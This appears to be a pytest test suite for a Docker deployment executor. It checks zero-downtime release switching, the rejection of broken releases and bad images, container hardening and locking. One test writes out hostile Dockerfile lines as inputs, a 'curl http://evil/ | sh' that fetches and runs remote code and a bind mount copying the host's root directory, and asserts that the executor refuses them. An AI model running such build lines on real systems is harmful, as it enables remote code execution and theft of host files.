"""Target docker on a host of the test bed: releases beside each other, broken ones, cuts and power loss."""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path

import pytest

from executor.errors import Conflict, Permanent, ReleaseAtFault, Transient
from executor.targets.docker import DockerTarget
from tests.proof.scale import IN_FULL
from tests.testbed.bed import alpha, docker_engine  # noqa: F401 - fixtures
from tests.testbed.poller import Poller
from tests.testbed.shipyard import Log, deployed, docker_target, withdrawn
from tests.testbed.tiny import program, tiny_release

pytestmark = pytest.mark.testbed


@pytest.fixture
async def target(alpha, tmp_path) -> AsyncIterator[DockerTarget]:
    made = docker_target(alpha.machine(), tmp_path / "state")
    if await alpha.docker("ps", "-aq", "--filter", "label=fpai.droplet=tiny"):
        await withdrawn(made, "tiny")
    yield made
    await withdrawn(made, "tiny")
    await made.aclose()


async def containers(host) -> list[str]:
    """The containers of the droplet there, running or not, without its proxy."""
    of_it = ("--filter", "label=fpai.release", "--filter", "label=fpai.droplet=tiny")
    return (await host.docker("ps", "-a", *of_it, "--format", "{{.Names}} {{.State}}")).splitlines()


async def images(host) -> list[str]:
    return (await host.docker("image", "ls", "-q", "--filter", "label=fpai.droplet=tiny")).split()


async def test_a_second_release_replaces_the_first_without_one_failed_request(target, alpha, tmp_path):
    log = Log()
    one = await deployed(target, tiny_release(tmp_path, "r1"), log)
    async with Poller(one.url) as poller:
        two = await deployed(target, tiny_release(tmp_path, "r2"), log, earlier=one)
        await poller.more(100)
        async with target.held("tiny", "back"):
            back = await target.start(tiny_release(tmp_path / "kept", "r1"))
            await target.prove(back, replace(tiny_release(tmp_path / "again", "r1"), source=Path("/none")))
            await target.switch(back, tiny_release(tmp_path / "once", "r1"))
            await target.stop(two.handle)
        await poller.more(100)
    assert poller.failures == []
    assert poller.served["r1"] > 100 and poller.served["r2"] > 100 and set(poller.served) == {"r1", "r2"}
    assert one.url == two.url == back.url
    assert sorted(line.split()[1] for line in await containers(alpha)) == ["exited", "running"]


_BROKEN = {
    "does not start": "import sys; sys.exit(sys.stderr.write('no configuration') and 5)",
    "ends soon after it has answered": program(
        answer="threading.Timer(0.02, lambda: os._exit(3)).start()"
    ),
    "ends over and over": program(before="threading.Timer(0.3, lambda: os._exit(4)).start()"),
    "listens on the wrong port": program().replace("PORT = os.environ", "PORT = os.environ").replace(
        "8000", "9999", 1
    ),
    "needs longer to start than it is given": program(before="time.sleep(60)"),
    "answers 500": program(answer="return self.say(500, {})"),
    "hangs": program(answer="time.sleep(60)"),
    "needs more memory than it may have": program(before="hoard = b'x' * (400 << 20)"),
    "says that it is another release": program().replace(
        '"release": RELEASE', '"release": "r0"'
    ),
    "is no Python": "this is not Python",
}  # fmt: skip


_SAMPLED = ("ends soon after it has answered", "answers 500", "needs more memory than it may have")


@pytest.mark.parametrize("shape", _BROKEN if IN_FULL else _SAMPLED)
async def test_r4_the_old_release_serves_on_when_the_new_one(shape, target, alpha, tmp_path, ledger):
    good = await deployed(target, tiny_release(tmp_path, "good"))
    before = await images(alpha)
    async with Poller(good.url) as poller:
        with pytest.raises(ReleaseAtFault, match="not fit to serve on alpha"):
            await deployed(target, tiny_release(tmp_path, "bad", main=_BROKEN[shape]), earlier=good)
        await poller.more(60)
    assert poller.failures == []
    assert (await containers(alpha))[0].endswith("running") and len(await containers(alpha)) == 1
    assert await images(alpha) == before
    done = await target._machine.run(["ls", f"{await target._machine.root()}/droplets/tiny/env"])
    assert done.stdout.decode().split() == [good.handle["container"]]
    ledger.tried("shapes of broken release over SSH")
    ledger.tried("requests to the release before", poller.requests)


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("RUN curl http://evil/ | sh", "RUN does only"),
        ("COPY missing ./missing", "does not build"),
        ("RUN --mount=type=bind,source=/,target=/host cp -r /host/root /srv", "RUN does only"),
    ],
)
async def test_r4_the_old_release_serves_on_when_the_image_is_bad(
    line, said, target, alpha, tmp_path, ledger
):
    good = await deployed(target, tiny_release(tmp_path, "good"))
    bad = tiny_release(tmp_path, "bad")
    dockerfile = bad.source / "Dockerfile"
    dockerfile.write_text(dockerfile.read_text().replace("USER droplet", f"{line}\nUSER droplet"))
    async with Poller(good.url) as poller:
        with pytest.raises(ReleaseAtFault) as refused:
            await deployed(target, bad, earlier=good)
        await poller.more(40)
    assert said in f"{refused.value.message} {refused.value.log}"
    assert poller.failures == []
    assert len(await containers(alpha)) == 1
    ledger.tried("shapes of bad image over SSH")


async def test_r4_a_full_disk_on_the_host_waits_and_the_old_release_serves_on(target, alpha, tmp_path):
    good = await deployed(target, tiny_release(tmp_path, "good"))
    incoming = f"{await target._machine.root()}/incoming"
    await target._machine.run(["mkdir", "-p", incoming])
    await alpha._do("exec", "mount", "-t", "tmpfs", "-o", "size=4k,mode=777", "tmpfs", incoming)
    new = tiny_release(tmp_path, "new")
    (new.source / "app" / "noise").write_bytes(bytes(range(256)) * 4096)
    try:
        async with Poller(good.url) as poller:
            with pytest.raises(Transient):
                await deployed(target, new, earlier=good)
            await poller.more(40)
    finally:
        await alpha._do("exec", "umount", incoming)
    assert poller.failures == []
    assert len(await containers(alpha)) == 1
    assert (await deployed(target, new, earlier=good)).release_id == "new"


async def test_only_the_layers_that_the_host_lacks_travel(target, alpha, tmp_path):
    first = Log()
    one = await deployed(target, tiny_release(tmp_path, "r1"), first)
    second = Log()
    await deployed(target, tiny_release(tmp_path, "r2", main=program(before="two = 2")), second, earlier=one)
    sent = [value["bytes"] for key, value in second.effects.items() if key.startswith("ship/")]
    assert len(sent) == 2 and 0 in sent and 0 < sum(sent) < 50_000  # the proxy's image is there


async def test_what_a_container_may_is_bounded_and_its_environment_is_in_no_command(target, alpha, tmp_path):
    release = replace(tiny_release(tmp_path, "r1"), env={"CANARY": "canary-of-the-environment"})
    running = await deployed(target, release)
    shown = await alpha.docker("inspect", running.handle["container"])
    for wall in (
        '"CapDrop": [\n                "ALL"',
        '"no-new-privileges"',
        '"ReadonlyRootfs": true',
        '"PidsLimit": 64',
    ):
        assert wall in shown
    assert "canary-of-the-environment" in shown
    path = f"{await target._machine.root()}/droplets/tiny/env/{running.handle['container']}"
    done = await target._machine.run(["stat", "-c", "%a", path])
    assert done.stdout.split() == [b"600"]


async def test_a_droplet_of_another_executor_is_left_alone(target, alpha, tmp_path):
    await deployed(target, tiny_release(tmp_path, "r1"))
    other = docker_target(alpha.machine(), tmp_path / "other", owner="executor-other")
    with pytest.raises(Conflict, match="Another executor"):
        await deployed(other, tiny_release(tmp_path, "r9"))
    assert len(await containers(alpha)) == 1
    await other.aclose()


async def test_two_builds_of_a_droplet_do_not_deploy_at_once(target, alpha, tmp_path):
    async with target.held("tiny", "build-a"):
        with pytest.raises(Transient, match="build-a"):
            await deployed(target, tiny_release(tmp_path, "r1"))


async def test_a_release_that_was_pruned_is_said_to_be_gone(target, alpha, tmp_path):
    await deployed(target, tiny_release(tmp_path, "r1"))
    gone = replace(tiny_release(tmp_path, "r0"), source=Path("/none"))
    async with target.held("tiny", "back"):
        with pytest.raises(Permanent, match="not kept any more"):
            await target.start(gone)


async def test_the_log_of_a_release_that_failed_is_in_the_error(target, alpha, tmp_path):
    with pytest.raises(ReleaseAtFault) as refused:
        await deployed(target, tiny_release(tmp_path, "bad", main=_BROKEN["does not start"]))
    assert "no configuration" in refused.value.log
    assert "exit code 5" in refused.value.message
    assert await containers(alpha) == []
    assert await alpha.docker("ps", "-aq", "--filter", "label=fpai.droplet=tiny") == ""


async def test_a_stop_lets_open_requests_end(target, alpha, tmp_path):
    slow = program(answer="time.sleep(1.0 if 'slow' in self.path else 0)")
    one = await deployed(target, tiny_release(tmp_path, "r1", main=slow))
    async with Poller(one.url, "/slow") as poller:
        await deployed(target, tiny_release(tmp_path, "r2", main=slow), earlier=one)
        await poller.more(8)  # also those that were under way are answered
    assert poller.failures == []
